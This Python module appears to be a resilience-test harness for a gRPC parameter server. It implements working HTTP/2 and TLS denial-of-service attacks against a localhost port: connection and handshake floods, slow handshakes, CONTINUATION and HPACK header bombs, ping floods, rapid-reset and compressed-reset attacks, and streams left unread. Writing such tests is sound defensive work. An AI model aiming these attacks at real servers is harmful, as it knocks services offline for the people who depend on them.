"""What strangers, and people of the run who mean ill, do to a process that listens: floods of
connections and handshakes, and of what HTTP/2 (RFC 9113) and its headers (RFC 7541) allow.

Each attack is a function of a Target that goes on until its `seconds` are over. It says how often
it has done what it does, and how much of that got through, as the process itself has shown by its
answers: at most at a time, and 0 if all was refused. A connection that is ended is opened anew.
"""

import collections.abc
import dataclasses
import errno
import functools
import os
import select
import selectors
import socket
import ssl
import struct
import time

from proto import parameter_server_pb2

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_ACK, _END_STREAM, _END_HEADERS = 1, 1, 4
_FIRST_WINDOW = 65_535
# At a time on a connection, as limits.strangers.streams says.
_MOST_STREAMS = 16

# Connections that an attack waits for at a time, and how long it waits until it tries again.
_TRIED_AT_ONCE = 8
_TRIED_SECONDS = 0.05

# As from another host than the run's.
HOST = "127.0.0.2"

CHECK = "/grpc.health.v1.Health/Check"
EXCHANGE = "/evenshard.v1.ParameterServer/Exchange"
JOIN = "/evenshard.v1.ParameterServer/Join"
PULL = "/evenshard.v1.ParameterServer/Pull"
SNAPSHOT = "/evenshard.v1.ParameterServer/Snapshot"

_INCARNATION, _ANOTHER_INCARNATION = 77, 78


@dataclasses.dataclass
class Target:
    """Where to: a port of this host. With mTLS, the files of a certificate, or nothing of it; with
    the rank of one of the run's workers, that one's. The rest is what the run's config says."""

    port: int
    seconds: float
    is_tls: bool = False
    certificate: str = ""
    key: str = ""
    rank: int | None = None
    plan: dict[str, int] = dataclasses.field(default_factory=dict)
    iteration: int = 0  # of the run, at the most, when the attack begins
    on_begin: collections.abc.Callable[[], None] = lambda: None
    _tried: list[tuple[socket.socket, float]] = dataclasses.field(default_factory=list)

    def begin(self):
        """The attack is in place, so that its time begins."""
        self.end = time.monotonic() + self.seconds
        self.on_begin()

    def is_over(self):
        return time.monotonic() >= self.end

    def begin_connection(self):
        """Returns a socket that connects by TCP meanwhile."""
        connection = socket.socket()
        connection.setblocking(False)
        connection.bind((HOST, 0))
        begun = connection.connect_ex(("127.0.0.1", self.port))
        if begun != errno.EINPROGRESS:
            connection.close()
            raise OSError(begun, os.strerror(begun))
        return connection

    def connect(self):
        """Returns a connection by TCP, or None if there is none to be had now. A few are tried at a
        time, again and again."""
        while len(self._tried) < _TRIED_AT_ONCE:
            self._tried.append((self.begin_connection(), time.monotonic()))
        _, writable, _ = select.select([], [tried for tried, _ in self._tried], [], 0)
        latest = time.monotonic() - _TRIED_SECONDS
        left = []
        got = None
        for connection, since in self._tried:
            is_ready = connection in writable
            if is_ready and connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                connection.close()
            elif is_ready and got is None:
                got = connection
                got.settimeout(2)
            elif is_ready or since >= latest:
                left.append((connection, since))
            else:
                connection.close()
        self._tried = left
        return got

    def speak(self):
        """Returns a Peer that has begun to speak HTTP/2, or None."""
        connection = self.connect()
        if connection is None:
            return None
        try:
            if self.is_tls:
                connection = self.context.wrap_socket(connection)
            connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0, b""))
        except OSError:
            connection.close()
            return None
        return Peer(connection)

    @functools.cached_property
    def context(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        if self.certificate:
            context.load_cert_chain(self.certificate, self.key)
        return context


class Peer:
    """A connection that speaks HTTP/2, and what has come back on it: how many of our settings were
    taken note of, which are answered in turn with all other frames, and what became of our calls.
    """

    def __init__(self, connection):
        self._connection = connection
        self._unparsed = b""
        self._next_stream = 1
        self.acts = 0
        self.noted = 0
        self.begun = set()
        self.ended = set()
        self.has_data = set()
        self.windows = collections.defaultdict(lambda: _FIRST_WINDOW)
        connection.settimeout(0.2)

    def send(self, sent):
        self._connection.sendall(sent)

    def call(self, method, metadata=(), message=None):
        """Begins a call, and ends its request with a message if there is one. Returns its stream.
        """
        stream = self._next_stream
        self._next_stream += 2
        self.begun.add(stream)
        self.send(frame(_HEADERS, _END_HEADERS, stream, call_headers(method, metadata)))
        if message is not None:
            self.send(frame(_DATA, _END_STREAM, stream, prefixed(message)))
        return stream

    def look(self, most_bytes=1 << 20):
        """Takes what has come. Errors: OSError if the connection has ended."""
        self._connection.settimeout(0)
        try:
            for _ in range(most_bytes >> 14):
                part = self._connection.recv(1 << 14)
                if not part:
                    raise ConnectionResetError
                self._unparsed += part
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        finally:
            self._parse()
            self._connection.settimeout(0.2)

    def _parse(self):
        at = 0
        while at + 9 <= len(self._unparsed):
            length = int.from_bytes(self._unparsed[at : at + 3], "big")
            kind, flags, stream = struct.unpack_from(">BBI", self._unparsed, at + 3)
            payload = self._unparsed[at + 9 : at + 9 + length]
            if len(payload) < length:
                break
            at += 9 + length
            if kind == _SETTINGS and flags & _ACK:
                self.noted += 1
            elif kind == _DATA:
                self.has_data.add(stream)
            elif kind == _WINDOW_UPDATE:
                self.windows[stream] += int.from_bytes(payload, "big")
            if kind == _RESET or kind in (_DATA, _HEADERS) and flags & _END_STREAM:
                self.ended.add(stream)
        self._unparsed = self._unparsed[at:]

    def close(self):
        self._connection.close()


def standing(peer):
    """How many calls of a peer the process has begun, and not ended."""
    return len(peer.begun - peer.ended) if peer.noted > 1 else 0


def processed(peer):
    """How often the process has come to the end of what an act sends, which is settings."""
    return max(peer.noted - 1, 0)


def let_in(peer):
    """How many acts there were on a connection of which the process has taken note."""
    return peer.acts if peer.noted > 0 else 0


def held_back(peer):
    """How many answers have begun and not ended, because nobody reads."""
    return len(peer.has_data - peer.ended)


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _number(value, prefix_bits, first):
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    encoded = [first | most]
    value -= most
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes(encoded + [value])


def _text(text):
    encoded = text.encode()
    return _number(len(encoded), 7, 0) + encoded


def header(name, value, is_kept=False):
    """Returns a header, which the receiver keeps in its table if that is said."""
    return (b"\x40" if is_kept else b"\x00") + _text(name) + _text(value)


_CALL_FIELDS = 6


def call_headers(method, metadata=(), is_kept=False):
    fields = {
        ":method": "POST", ":scheme": "http", ":path": method, ":authority": "localhost",
        "te": "trailers", "content-type": "application/grpc", **dict(metadata),
    }
    return b"".join(header(name, value, is_kept) for name, value in fields.items())


def prefixed(message):
    """Returns a message as gRPC sends it."""
    return struct.pack(">BI", 0, len(message)) + message


def _plan_fingerprint(target):
    return target.plan.get("plan_fingerprint", 0)


def _join(target):
    return parameter_server_pb2.JoinRequest(
        worker=target.rank,
        incarnation=_INCARNATION,
        config_fingerprint=target.plan["config_fingerprint"],
        plan_fingerprint=_plan_fingerprint(target),
        plan_version=target.plan["plan_version"],
        protocol_version=target.plan["protocol_version"],
    ).SerializeToString()


def _as_worker(target, incarnation):
    """Returns the metadata of a worker's stream that is open before it has joined."""
    numbers = {"worker": target.rank, "incarnation": incarnation, "join-follows": 1}
    return {f"ps-{name}": str(number) for name, number in numbers.items()}


def _skip(target):
    """Returns the message of a push without a gradient, which is answered with parameters."""
    chunk = parameter_server_pb2.GradientChunk(
        worker=target.rank, incarnation=_INCARNATION, skip=True
    )
    return parameter_server_pb2.GradientChunks(chunk=[chunk]).SerializeToString()


def connections(target, most=10_000):
    """Begins connections as fast as it can, and keeps all that it gets, without a word."""
    target.begin()
    begun = most_kept = rounds = 0
    kept = set()
    waiting = collections.deque()
    selector = selectors.DefaultSelector()
    while not target.is_over():
        rounds += 1
        if len(kept) + len(waiting) < most:
            connection = target.begin_connection()
            begun += 1
            waiting.append((connection, time.monotonic()))
            selector.register(connection, selectors.EVENT_WRITE, connection)
        for key, events in selector.select(0) if rounds % 64 == 0 else ():
            connection = key.data
            has_failed = connection.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if events & selectors.EVENT_READ or has_failed:
                selector.unregister(connection)
                kept.discard(connection)
                connection.close()
            else:
                selector.modify(connection, selectors.EVENT_READ, connection)
                kept.add(connection)
        while waiting and waiting[0][1] < time.monotonic() - _TRIED_SECONDS:
            connection, _ = waiting.popleft()
            if connection.fileno() >= 0 and connection not in kept:
                selector.unregister(connection)
                connection.close()
        most_kept = max(most_kept, len(kept))
    _close_all(kept)
    _close_all(connection for connection, _ in waiting)
    return begun, most_kept


def slow_handshakes(target, at_once=200):
    """Sends the beginning of a handshake byte by byte."""
    target.begin()
    outgoing = ssl.MemoryBIO()
    tls = target.context.wrap_bio(ssl.MemoryBIO(), outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read() if target.is_tls else _PREFACE
    open_now = []
    begun = most_slow = 0
    while not target.is_over():
        connection = target.connect() if len(open_now) < at_once else None
        if connection is not None:
            open_now.append([connection, 0])
            begun += 1
        for each in list(open_now):
            connection, sent = each
            try:
                connection.sendall(hello[sent : sent + 1])
                each[1] = min(sent + 1, len(hello) - 2)
            except OSError:
                connection.close()
                open_now.remove(each)
        most_slow = max(most_slow, sum(sent > 5 for _, sent in open_now))
        time.sleep(0.005)
    _close_all(connection for connection, _ in open_now)
    return begun, most_slow


def handshakes(target):
    """Shakes hands, and begins anew."""
    target.begin()
    done = 0
    while not target.is_over():
        peer = target.speak()
        if peer is None:
            continue
        done += 1
        peer.close()
    return done, done


def _on_connections(target, at_once, act, through, reads=True):
    """Calls act(peer) in turn on so many connections. Returns how often that says that it has done
    it, and the most that through(peer) says of all that are open: at any time, or if the attack
    does not read, at its end."""
    target.begin()
    open_now = []
    acts = most_through = 0
    while not target.is_over():
        peer = target.speak() if len(open_now) < at_once else None
        if peer is not None:
            open_now.append(peer)
        ended = [peer for peer in open_now if not _goes_on(peer, act, reads)]
        if reads:
            most_through = max(most_through, sum(map(through, open_now)))
        acts += sum(peer.acts for peer in ended)
        _close_all(ended)
        open_now = [peer for peer in open_now if peer not in ended]
    if not reads:
        for peer in open_now:
            _goes_on(peer, lambda _: 0, reads=True)
        most_through = sum(map(through, open_now))
    acts += sum(peer.acts for peer in open_now)
    _close_all(open_now)
    return acts, most_through


def _goes_on(peer, act, reads):
    try:
        try:
            peer.acts += act(peer)
        finally:
            if reads:
                peer.look()
    except OSError:
        return False
    return True


def _close_all(connections_left):
    for connection in connections_left:
        connection.close()


def _noted(peer):
    """Sends what the peer answers when it has come so far."""
    peer.send(frame(_SETTINGS, 0, 0, b""))


def known_connections(target, most=100):
    """Opens as many connections as there are places for those who only ask, and more, makes a call
    on each, begins others, and keeps all. Its time begins when they are open."""
    opened, kept = 0, []
    latest = time.monotonic() + 60
    while opened < most and time.monotonic() < latest:
        peer = target.speak()
        if peer is None:
            continue
        opened += 1
        kept.append(peer)
        if not _goes_on(peer, _take_all_streams, reads=False):
            kept.pop().close()
    target.begin()
    most_known = 0
    while not target.is_over():
        ended = [peer for peer in kept if not _goes_on(peer, lambda _: 0, reads=True)]
        _close_all(ended)
        kept = [peer for peer in kept if peer not in ended]
        most_known = max(most_known, sum(len(peer.has_data) for peer in kept))
        time.sleep(0.1)
    _close_all(kept)
    return opened, most_known


def _take_all_streams(peer):
    peer.call(CHECK, message=b"")
    for _ in range(_MOST_STREAMS - 1):
        peer.call(PULL)
    return 1


def half_open_streams(target):
    """Begins calls, of which nothing more comes: of a worker that its Join does not follow, of
    others without their message."""

    def begin(peer):
        if len(peer.begun) == _MOST_STREAMS:
            time.sleep(0.001)
            return 0
        if target.rank is None:
            peer.call(PULL)
        else:
            peer.call(EXCHANGE, _as_worker(target, _ANOTHER_INCARNATION))
        _noted(peer)
        return 1

    return _on_connections(target, 100, begin, standing)


def huge_headers(target):
    """Sends headers without an end, in frames that continue them."""

    def send(peer):
        part = header("x-" + "a" * 100, "b" * 16000)
        if peer.acts == 0:
            peer.send(frame(_HEADERS, 0, 1, call_headers(PULL)))
        peer.send(frame(_CONTINUATION, 0, 1, part))
        return 1

    return _on_connections(target, 16, send, let_in)


def compressed_headers(target):
    """Sends headers of a byte each that stand for 4,000."""

    def send(peer):
        bomb = header("x-bomb", "b" * 3900, is_kept=True) + b"\xbe" * 10_000
        headers = call_headers(PULL) + bomb
        peer.send(frame(_HEADERS, _END_HEADERS, 1 + 2 * peer.acts, headers))
        return 1

    return _on_connections(target, 16, send, lambda peer: len(peer.ended))


def small_messages(target):
    """Sends small messages on a call, as far as its window goes, and between them empty frames and
    settings, which no window bounds. A worker joins and pushes nothing, again and again."""
    message = prefixed(b"\x08" if target.rank is None else _skip(target))

    def send(peer):
        if not peer.begun:
            _begin_messages(target, peer)
        stream = max(peer.begun)
        burst = frame(_DATA, 0, stream, message) * 20 + frame(_DATA, 0, stream, b"") * 20
        if min(peer.windows[0], peer.windows[stream]) < len(burst):
            burst = frame(_DATA, 0, stream, b"") * 20
            time.sleep(0.001)
        peer.windows[0] -= len(burst)
        peer.windows[stream] -= len(burst)
        peer.send(burst)
        _noted(peer)
        return 40

    return _on_connections(target, 16, send, processed)


def _begin_messages(target, peer):
    if target.rank is None:
        peer.call(PULL)
        return
    peer.call(JOIN, message=_join(target))
    peer.call(EXCHANGE, _as_worker(target, _INCARNATION))


def pings(target):
    """Sends pings, which a process answers, and does not want so many of."""

    def send(peer):
        peer.send(frame(_PING, 0, 0, bytes(8)) * 100)
        _noted(peer)
        return 100

    return _on_connections(target, 16, send, let_in)


def rapid_resets(target):
    """Begins calls and takes them back at once."""
    return _reset(target, call_headers(PULL))


def compressed_resets(target):
    """Does the same with headers of a byte each, so that a call takes 30 bytes."""
    # The receiver counts what it has kept from its newest on, which is 62.
    return _reset(target, bytes(0x80 | 62 + i for i in reversed(range(_CALL_FIELDS))))


def _reset(target, headers):
    first = call_headers(PULL, is_kept=True)

    def send(peer):
        burst = b""
        for stream in range(1 + 2 * peer.acts, 1 + 2 * (peer.acts + 100), 2):
            sent = first if stream == 1 else headers
            burst += frame(_HEADERS, _END_HEADERS, stream, sent)
            burst += frame(_RESET, 0, stream, struct.pack(">I", 8))
        peer.send(burst)
        _noted(peer)
        return 100

    return _on_connections(target, 4, send, processed)


def _never_read(target, request):
    """Calls request(peer) for all streams of a connection, and reads nothing."""

    def send(peer):
        if len(peer.begun) < _MOST_STREAMS:
            request(peer)
            return 1
        time.sleep(0.01)
        _noted(peer)
        return 0

    return _on_connections(target, 100, send, held_back, reads=False)


def never_reads(target):
    """Asks for all parameters, and reads nothing. A worker joins and pushes, and does not read."""

    def request(peer):
        if target.rank is None:
            pull = parameter_server_pb2.PullRequest(plan_fingerprint=_plan_fingerprint(target))
            peer.call(PULL, message=pull.SerializeToString())
            return
        _begin_messages(target, peer)
        stream = max(peer.begun)
        peer.send(frame(_DATA, 0, stream, prefixed(_skip(target)) * 100))

    return _never_read(target, request)


def never_reads_snapshots(target):
    """Asks for all parameters at iterations to come, so that a ps copies them, and reads nothing.
    """

    def request(peer):
        iteration = target.iteration + 10 * len(peer.begun)
        snapshot = parameter_server_pb2.SnapshotRequest(
            plan_fingerprint=_plan_fingerprint(target), iteration=iteration
        )
        peer.call(SNAPSHOT, message=snapshot.SerializeToString())

    return _never_read(target, request)


ATTACKS: dict[str, collections.abc.Callable[[Target], tuple[int, int]]] = {
    "connections": connections,
    "slow_handshakes": slow_handshakes,
    "handshakes": handshakes,
    "known_connections": known_connections,
    "half_open_streams": half_open_streams,
    "huge_headers": huge_headers,
    "compressed_headers": compressed_headers,
    "small_messages": small_messages,
    "pings": pings,
    "rapid_resets": rapid_resets,
    "compressed_resets": compressed_resets,
    "never_reads": never_reads,
    "never_reads_snapshots": never_reads_snapshots,
}
